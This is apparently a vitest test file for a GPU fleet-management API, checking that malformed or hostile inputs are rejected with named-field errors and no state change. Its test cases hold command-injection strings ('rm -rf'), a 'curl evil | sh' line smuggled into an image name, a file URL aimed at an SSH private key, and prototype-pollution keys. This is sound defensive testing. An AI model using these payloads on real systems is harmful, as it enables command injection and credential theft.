import { describe, expect, it } from "vitest";
import { MAX_BODY_BYTES } from "../../src/api/app";
import { type ConfigBody, call, callJson } from "./helpers";

/** Bad input answers 400 (or 413) naming the field, and changes nothing. */

interface EventsBody {
  events: { seq: number }[];
}

async function snapshot(): Promise<{ config: unknown; lastEvent: number | null }> {
  const cfg = await callJson<ConfigBody>("/fleets/zeb");
  const ev = await callJson<EventsBody>("/events?limit=1");
  return { config: cfg.config, lastEvent: ev.events[0]?.seq ?? null };
}

const CASES: [string, string, unknown, number, RegExp][] = [
  ["POST", "/scale?n=-1", undefined, 400, /^n: must be an integer from 0 to/],
  ["POST", "/scale?n=abc", undefined, 400, /^n: must be an integer/],
  ["POST", "/scale?n=1.5", undefined, 400, /^n: must be an integer/],
  ["POST", "/scale?n=1000000000", undefined, 400, /^n: must be an integer/],
  ["POST", "/scale?n=", undefined, 400, /^n: must be an integer/],
  ["POST", "/scale", undefined, 400, /^n: /],
  ["POST", "/scale?n=33", undefined, 400, /^n: must be an integer from 0 to 32 \(ZEB_MAX_WORKERS\)/],
  ["POST", "/scale?n=2&fleet=../x", undefined, 400, /^fleet: fleet names are/],
  ["POST", "/scale?n=2&fleet=nosuchfleet", undefined, 404, /^fleet: no fleet named nosuchfleet/],
  ["POST", "/up?n=0", undefined, 400, /^n: must be an integer from 1/],
  ["POST", "/up?n=1&gpu=;rm", undefined, 400, /^gpu: GPU names are/],
  ["POST", "/up?n=1&gpu=RTX%203090%3Brm%20-rf", undefined, 400, /^gpu: /],
  // Underscores only would be "" once spaced: any GPU at all, not the one-off model asked for.
  ["POST", "/up?n=1&gpu=__", undefined, 400, /^gpu: GPU names are .* starting with a letter or digit/],
  ["POST", "/up?n=1&gpu=_", undefined, 400, /^gpu: /],
  ["GET", "/instances/1/logs?tail=0", undefined, 400, /^tail: must be an integer from 1 to 1000/],
  ["GET", "/instances/1/logs?tail=1001", undefined, 400, /^tail: /],
  ["GET", "/instances/abc/logs", undefined, 400, /^id: /],
  ["GET", "/events?limit=0", undefined, 400, /^limit: must be an integer from 1 to 1000/],
  ["GET", "/events?since=yesterday", undefined, 400, /^since: /],
  ["GET", "/status?format=xml", undefined, 400, /^format: /],
  ["GET", "/fleets/..%2Fx", undefined, 400, /^fleet: /],
  ["PUT", "/fleets/Bad_Name", {}, 400, /^fleet: /],
  ["DELETE", "/fleets/zeb", undefined, 400, /^fleet: zeb is the default fleet/],
  ["POST", "/roll?cancel=yes", undefined, 400, /^cancel: /],
  ["POST", "/instances/abc/replace", undefined, 400, /^id: /],
  ["POST", "/instances/1/replace?fleet=nosuchfleet", undefined, 404, /^fleet: no fleet named nosuchfleet/],
  ["PUT", "/hosts/1", {}, 400, /^reason: /],
  ["PUT", "/hosts/1", { reason: "   " }, 400, /^reason: say why/],
  ["PUT", "/hosts/1", { reason: "a\nb" }, 400, /^reason: must be one line/],
  ["PUT", "/hosts/1", { reason: "x".repeat(201) }, 400, /^reason: at most 200/],
  ["PUT", "/hosts/1", { reason: "slow", scope: "world" }, 400, /^scope: /],
  ["PUT", "/hosts/1", { reason: "slow", sneaky: 1 }, 400, /^sneaky: unknown field$/],
  ["PUT", "/hosts/1", [], 400, /^body: /],
  ["PUT", "/hosts/1", '"slow"', 400, /^body: /],
  ["PUT", "/hosts/0", { reason: "slow" }, 400, /^machineId: /],
  ["PUT", "/hosts/1?fleet=nosuchfleet", { reason: "slow" }, 404, /^fleet: no fleet named nosuchfleet/],
];

describe("bad input", () => {
  for (const [method, path, body, status, message] of CASES) {
    it(`${method} ${path} → ${status}`, async () => {
      const before = await snapshot();
      const res = await call(path, { method, body });
      expect(res.status, res.text).toBe(status);
      const json = res.json() as { error: string; message: string };
      expect(json.message).toMatch(message);
      expect(typeof json.error).toBe("string");
      expect(await snapshot()).toEqual(before);
    });
  }

  it("rejects unknown config keys, naming them, and stores nothing", async () => {
    const before = await snapshot();
    const { config } = await callJson<ConfigBody>("/fleets/zeb");
    const res = await call("/fleets/zeb", { method: "PUT", body: { ...config, workers: 3, sneaky: true } });
    expect(res.status).toBe(400);
    expect((res.json() as { message: string }).message).toMatch(/sneaky/);
    expect(await snapshot()).toEqual(before);
    const created = await call("/fleets/typo-fleet", { method: "PUT", body: { ...config, sneaky: true } });
    expect(created.status).toBe(400);
    expect((await callJson<{ fleets: { name: string }[] }>("/fleets")).fleets.map((f) => f.name)).not.toContain("typo-fleet");
  });

  it("names the field and its ZEB_* variable for an invalid config value", async () => {
    const { config } = await callJson<ConfigBody>("/fleets/zeb");
    const res = await call("/fleets/zeb", { method: "PUT", body: { ...config, maxDph: -1 } });
    expect(res.status).toBe(400);
    expect((res.json() as { message: string }).message).toMatch(/^maxDph \(ZEB_MAX_DPH\): /);
    const cross = await call("/fleets/zeb", { method: "PUT", body: { ...config, workers: 20, uploadInterval: 240 } });
    expect(cross.status).toBe(400);
    expect((cross.json() as { message: string }).message).toMatch(/uploadInterval \(ZEB_UPLOAD_INTERVAL\)/);
  });

  it("PUT /fleets refuses a code repo that is not an https, http or git URL, a GPU listed twice, an image that is not one plain reference, a __proto__ key; naming the field, storing nothing", async () => {
    const { config } = await callJson<ConfigBody>("/fleets/zeb");
    const json = JSON.stringify(config);
    const bodies: [string, RegExp][] = [
      [
        JSON.stringify({ ...config, codeRepo: "file:///root/.ssh/id_rsa" }),
        /^codeRepo \(ZEB_CODE_REPO\): must be an https:\/\/, http:\/\/ or git:\/\/ URL/,
      ],
      [JSON.stringify({ ...config, codeRepo: "javascript:alert(1)" }), /^codeRepo \(ZEB_CODE_REPO\): /],
      [JSON.stringify({ ...config, codeRepo: "ssh://git@github.com/x/y.git" }), /^codeRepo \(ZEB_CODE_REPO\): /],
      [JSON.stringify({ ...config, gpus: ["RTX_3060", "RTX 3060"] }), /^gpus \(ZEB_GPUS\): lists RTX 3060 more than once/],
      [JSON.stringify({ ...config, image: "pytorch/pytorch:2.6.0\nRUN curl evil | sh" }), /^image \(ZEB_IMAGE\): an image reference/],
      [JSON.stringify({ ...config, image: "pytorch/py\u202etorch" }), /^image \(ZEB_IMAGE\): /],
      [JSON.stringify({ ...config, image: "pytorch/pytorch\u200b" }), /^image \(ZEB_IMAGE\): /],
      [JSON.stringify({ ...config, image: "pytorch/pytorch --privileged" }), /^image \(ZEB_IMAGE\): /],
      // JSON.parse makes __proto__ an own key, which zod's record would drop without a word.
      [
        json.replace(/"gpuPriors":\{/, '"gpuPriors":{"__proto__":{"RTX 3060":100},'),
        /^gpuPriors\.__proto__ \(ZEB_GPU_PRIORS\): GPU names are/,
      ],
      [json.replace(/^\{/, '{"__proto__":{"paused":true},'), /^__proto__: unknown field$/],
      [json.replace(/"gpuPriors":\{/, '"gpuPriors":{"_hidden":9,'), /^gpuPriors\._hidden \(ZEB_GPU_PRIORS\): GPU names are/],
    ];
    for (const [body, message] of bodies) {
      for (const fleet of ["zeb", "new-fleet"]) {
        const before = await snapshot();
        const res = await call(`/fleets/${fleet}`, { method: "PUT", body });
        expect(res.status, `${fleet}: ${body.slice(0, 80)}: ${res.text}`).toBe(400);
        expect((res.json() as { error: string; message: string }).message).toMatch(message);
        expect(await snapshot()).toEqual(before);
      }
    }
    expect((await callJson<{ fleets: { name: string }[] }>("/fleets")).fleets.map((f) => f.name)).not.toContain("new-fleet");
    // The same settings written correctly are accepted.
    const ok = await call("/fleets/ok-fleet", {
      method: "PUT",
      body: { ...config, codeRepo: "git://example.org/x/y.git", gpus: ["RTX_3060", "RTX 3090"], gpuPriors: { RTX_3060: 4 } },
    });
    expect(ok.status, ok.text).toBe(200);
  });

  it("/up says how many more n may be at the fleet's target, and changes nothing", async () => {
    const { config } = await callJson<ConfigBody>("/fleets/zeb");
    await callJson("/fleets/up-range", {
      method: "PUT",
      body: { ...config, workers: 4, maxWorkers: 32, uploadInterval: 240, paused: true },
    });
    const target = async () => (await callJson<ConfigBody>("/fleets/up-range")).config.workers;
    for (const [n, message] of [
      [29, /^n: at most 28 more: the target is 4 and maxWorkers \(ZEB_MAX_WORKERS\) is 32$/],
      [1000, /^n: at most 28 more/],
      [
        3,
        /^n: 3 more would make 7 workers uploading every 240s, over Hugging Face's 128 commits\/hour per repository; set uploadInterval \(ZEB_UPLOAD_INTERVAL\) to at least 252s first$/,
      ],
    ] as const) {
      const res = await call(`/up?fleet=up-range&n=${n}`, { method: "POST" });
      expect(res.status, res.text).toBe(400);
      expect((res.json() as { message: string }).message).toMatch(message);
      expect(await target()).toBe(4);
    }
  });

  it("refuses a scale that would break the Hugging Face commit budget of a fixed upload interval, naming the interval that allows it", async () => {
    const { config } = await callJson<ConfigBody>("/fleets/zeb");
    await callJson("/fleets/fixed-interval", { method: "PUT", body: { ...config, uploadInterval: 240, paused: true } });
    const res = await call("/scale?fleet=fixed-interval&n=10", { method: "POST" });
    expect(res.status).toBe(400);
    expect((res.json() as { message: string }).message).toMatch(/uploadInterval \(ZEB_UPLOAD_INTERVAL\) to at least 360s/);
  });

  it("answers 413 to an oversized body and changes nothing", async () => {
    const before = await snapshot();
    const { config } = await callJson<ConfigBody>("/fleets/zeb");
    const huge = { ...config, image: "x".repeat(MAX_BODY_BYTES) };
    const res = await call("/fleets/zeb", { method: "PUT", body: huge });
    expect(res.status).toBe(413);
    expect(res.json()).toMatchObject({ error: "payload_too_large" });
    expect(await snapshot()).toEqual(before);
  });

  it("answers malformed JSON and non-JSON bodies in the API's error shape", async () => {
    const bad = await call("/fleets/zeb", { method: "PUT", body: "{not json" });
    expect(bad.status).toBe(400);
    expect(bad.json()).toMatchObject({ error: expect.any(String), message: expect.any(String) });
    const form = await call("/fleets/zeb", {
      method: "PUT",
      body: "workers=3",
      headers: { "content-type": "application/x-www-form-urlencoded" },
    });
    expect(form.status).toBe(415);
    expect(form.json()).toMatchObject({ error: "unsupported_media_type" });
  });
});
